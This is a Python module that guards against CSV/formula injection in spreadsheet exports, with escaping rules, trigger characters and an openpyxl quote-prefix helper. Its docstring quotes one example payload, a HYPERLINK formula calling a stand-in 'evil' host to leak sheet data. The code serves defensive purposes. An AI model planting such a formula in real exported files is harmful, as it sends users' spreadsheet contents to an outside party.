"""Keep text that voc writes into spreadsheets from being run as a formula (CSV/formula injection).

A cell whose text starts with ``=``, ``+``, ``-`` or ``@`` (or a tab or carriage return, which some
spreadsheet programs skip before looking for one) is evaluated as a formula when the file is opened:
``=HYPERLINK("http://evil/?"&A1, "详情")`` in an indicator name would leak the sheet when clicked.
The full-width forms (``＝＋－＠``) are included because Chinese input methods produce them and some
spreadsheet programs convert them.

Two writers, one rule:

* XLSX (openpyxl): every text value is written as a string cell with Excel's *quote prefix* style, so
  the program shows it as text and keeps it text when edited; the value itself is unchanged, so an
  exported file imports back exactly (no escape to strip).
* CSV/TSV: there are no cell types, so a risky value gets a leading apostrophe (the OWASP
  recommendation). :func:`unescape_text` removes exactly the apostrophe :func:`escape_text` added, so
  ``unescape_text(escape_text(s)) == s`` for every string.
"""

from __future__ import annotations

import re
from collections.abc import Iterable
from typing import Any

FORMULA_TRIGGERS = frozenset("=+-@\t\r＝＋－＠")
ESCAPE_MARK = "'"
# A bare number ("-3", "+86") is not a formula anywhere and is left alone, so figures stay figures.
_PLAIN_NUMBER = re.compile(r"[+-]?\d+(?:\.\d+)?(?:[eE][+-]?\d+)?")


def is_formula_like(value: str) -> bool:
    """Whether a spreadsheet program could evaluate ``value`` as a formula."""
    return value[:1] in FORMULA_TRIGGERS and not _PLAIN_NUMBER.fullmatch(value)


def _carries_escape(value: str) -> bool:
    # What escape_text produces: the mark followed by a trigger or by another mark.
    return len(value) >= 2 and value[0] == ESCAPE_MARK and (value[1] in FORMULA_TRIGGERS or value[1] == ESCAPE_MARK)


def escape_text(value: str) -> str:
    """``value`` safe to put in a CSV/TSV cell: a leading apostrophe before anything formula-like.

    A value that already looks escaped gets one more apostrophe, so that unescaping gives it back.
    """
    if is_formula_like(value) or _carries_escape(value):
        return ESCAPE_MARK + value
    return value


def unescape_text(value: str) -> str:
    """The value :func:`escape_text` was given (a value it left alone comes back unchanged)."""
    return value[1:] if _carries_escape(value) else value


def escape_row(values: Iterable[Any]) -> list[Any]:
    """A CSV row with every text cell escaped; numbers, dates and ``None`` pass through."""
    return [escape_text(value) if isinstance(value, str) else value for value in values]


def append_text_safe_row(sheet: Any, values: Iterable[Any]) -> None:
    """``sheet.append(values)`` for an openpyxl worksheet, with no text cell becoming a formula."""
    row = list(values)
    sheet.append(row)
    line = sheet.max_row
    for column, value in enumerate(row, start=1):
        if isinstance(value, str) and value[:1] in FORMULA_TRIGGERS:
            cell = sheet.cell(row=line, column=column)
            # openpyxl typed "=..." as a formula on append; a plain string cell with the quote
            # prefix is what Excel itself stores when a user types '=... into a cell.
            cell.data_type = "s"
            cell.quotePrefix = True
